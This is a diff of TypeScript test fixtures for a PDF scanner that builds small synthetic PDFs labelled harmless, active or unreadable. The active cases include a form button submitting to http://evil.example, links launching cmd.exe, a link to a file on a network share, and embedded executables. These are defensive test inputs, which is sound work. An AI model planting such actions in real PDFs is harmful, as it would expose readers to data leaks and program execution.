@@ -20,13 +20,31 @@ const formField = (text: string) =>
     page: '/Annots[4 0 R]',
     objects: [`<</Type/Annot/Subtype/Widget/T(a)/Rect[0 0 9 9]${text}>>`],
   });
-const embedded = { dictionary: '/Type/EmbeddedFile', stream: Buffer.from('MZ') };
+const embeddedFile = { dictionary: '/Type/EmbeddedFile', stream: Buffer.from('MZ') };
 const fileSpecification = '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>';
-const bookmark = (action: string) =>
+const bookmark = (action: string, childAction = '') =>
   plainPdf({
     catalog: '/Outlines 4 0 R',
-    objects: ['<</First 5 0 R/Last 5 0 R/Count 1>>', `<</Title(Skills)/Parent 4 0 R ${action}>>`],
+    objects: [
+      '<</First 5 0 R/Last 5 0 R/Count 1>>',
+      `<</Title(Skills)/Parent 4 0 R ${action} ${childAction && '/First 6 0 R/Last 6 0 R/Count 1'}>>`,
+      `<</Title(More)/Parent 5 0 R ${childAction}>>`,
+    ],
   });
+/** Without a cross-reference table, which readers reconstruct. */
+const pdfWithPages = (...pages: readonly string[]) => {
+  const kids = pages.map((_, index) => `${index + 3} 0 R`);
+  const objects = pages.map(
+    (page, index) => `${index + 3} 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]${page}>>endobj\n`,
+  );
+  return Buffer.from(
+    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[${kids.join(' ')}]/Count ${pages.length}>>endobj\n${objects.join('')}trailer<</Root 1 0 R>>\n%%EOF\n`,
+  );
+};
+
+const launch = '/S/Launch/F(cmd.exe)';
+const unknownAction = 'a link or button with an action that our reader does not know';
+const fileLink = 'a link to a file or program, or one without https://';
 
 export const harmlessPdf: readonly HarmlessCase[] = [
   ['Chromium, with links to mail, telephone and web', fixture('chromium-plain.pdf')],
@@ -37,9 +55,16 @@ export const harmlessPdf: readonly HarmlessCase[] = [
   ['LibreOffice, in Devanagari', fixture('libreoffice-devanagari.pdf')],
   ['object streams', packedPdf()],
   ['without a cross-reference, which readers repair', minimalPdf('% I write JavaScript and launch sites')],
+  ['plain', plainPdf()],
   ['with a web link', link('/S/URI/URI(https://asha.example)')],
   ['with a web link without a scheme', link('/S/URI/URI(www.asha.example)')],
-  ['with bookmarks', bookmark('/Dest[3 0 R/Fit]')],
+  ['with a link within the document', annotation('/Subtype/Link/Dest[3 0 R/Fit]')],
+  ['with a link to the next page', link('/S/Named/N/NextPage')],
+  ['with a link that shows a layer', link('/S/SetOCGState/State[/ON 4 0 R]')],
+  ['with a link that empties a form', link('/S/ResetForm')],
+  ['with a button to the web', formField('/FT/Btn/Ff 65536/A<</S/URI/URI(https://asha.example)>>')],
+  ['with a note', annotation('/Subtype/Text/Contents(Hello)')],
+  ['with bookmarks', bookmark('/Dest[3 0 R/Fit]', '/Dest[3 0 R/Fit]')],
   ['with a form that was filled in', formField('/FT/Tx/V(Asha Rane)')],
   ['that opens on its first page', plainPdf({ catalog: '/OpenAction[3 0 R/Fit]' })],
   ['of 5 MB', minimalPdf(`% ${'x'.repeat(5 * 1024 * 1024 - 400)}`)],
@@ -78,35 +103,33 @@ export const activePdf: readonly FindingCase[] = [
   ['JavaScript as a page opens', plainPdf({ page: `/AA<</O ${script}>>` }), 'JavaScript'],
   ['JavaScript of a form field', formField(`/FT/Tx/AA<</K ${script}>>`), 'JavaScript'],
   [
-    'JavaScript of a link',
-    annotation(`/Subtype/Link/A ${script}`),
-    'a link or button with an action that our reader does not know',
+    'JavaScript of a field that the form does not list',
+    annotation(`/Subtype/Widget/FT/Tx/T(a)/AA<</K ${script}>>`),
+    'JavaScript',
   ],
-  [
-    'JavaScript of a bookmark',
-    bookmark(`/A ${script}`),
-    'a link or button with an action that our reader does not know',
-  ],
+  ['JavaScript of a link', annotation(`/Subtype/Link/A ${script}`), unknownAction],
+  ['JavaScript of a bookmark', bookmark(`/A ${script}`), unknownAction],
   [
     'a button that sends the form',
     formField('/FT/Btn/Ff 65536/A<</S/SubmitForm/F(http://evil.example)>>'),
-    'a link or button with an action that our reader does not know',
+    unknownAction,
   ],
-  [
-    'a program to launch',
-    link('/S/Launch/F(cmd.exe)'),
-    'a link to a file or program, or one without https://',
-  ],
-  [
-    'another document on a share',
-    link('/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]'),
-    'a link to a file or program, or one without https://',
-  ],
+  ['a program to launch', link(launch), fileLink],
+  ['another document on a share', link('/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]'), fileLink],
   [
     'a file inside',
     plainPdf({
       catalog: `/Names<</EmbeddedFiles<</Names[(a.exe)${fileSpecification}]>>>>`,
-      objects: [embedded],
+      objects: [embeddedFile],
+    }),
+    'an attached file',
+  ],
+  [
+    'a link to a file inside',
+    plainPdf({
+      catalog: `/Names<</EmbeddedFiles<</Names[(a.pdf)${fileSpecification}]>>>>`,
+      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToE/T<</R/C/N(a.pdf)>>>>>>]',
+      objects: [embeddedFile],
     }),
     'an attached file',
   ],
@@ -114,13 +137,23 @@ export const activePdf: readonly FindingCase[] = [
     'a file pinned to a page',
     plainPdf({
       page: `/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS${fileSpecification}>>]`,
-      objects: [embedded],
+      objects: [embeddedFile],
     }),
     'an attached file',
   ],
   ['a portfolio', plainPdf({ catalog: '/Collection<</View/D>>' }), 'an attached file'],
-  ['rich media', annotation('/Subtype/RichMedia'), 'sound, film or a 3D model'],
-  ['a 3D model', annotation('/Subtype/3D'), 'sound, film or a 3D model'],
+  ...['RichMedia', 'Screen', 'Movie', 'Sound', '3D'].map(
+    (subtype): FindingCase => [subtype, annotation(`/Subtype/${subtype}`), 'sound, film or a 3D model'],
+  ),
+  ['a hidden link to a program', annotation(`/F 2/Subtype/Link/A<<${launch}>>`), fileLink],
+  ['a button that starts a program', formField(`/FT/Btn/Ff 65536/A<<${launch}>>`), fileLink],
+  ['a bookmark that starts a program', bookmark(`/A<<${launch}>>`), fileLink],
+  ['a program in a bookmark below another', bookmark('/Dest[3 0 R/Fit]', `/A<<${launch}>>`), fileLink],
+  [
+    'a program on the last of three pages',
+    pdfWithPages('', '', `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<<${launch}>>>>]`),
+    fileLink,
+  ],
   [
     'a dynamic form',
     plainPdf({
@@ -134,6 +167,7 @@ export const activePdf: readonly FindingCase[] = [
 export const unreadablePdf: readonly FindingCase[] = [
   ['half a PDF', plainPdf().subarray(0, 60), 'damaged'],
   ['an encrypted PDF of LibreOffice', fixture('libreoffice-locked.pdf'), 'locked with a password'],
+  ['a PDF without a page', pdfWithPages(), 'without a page'],
 ];
 
 /** A function, because creating these takes seconds. */
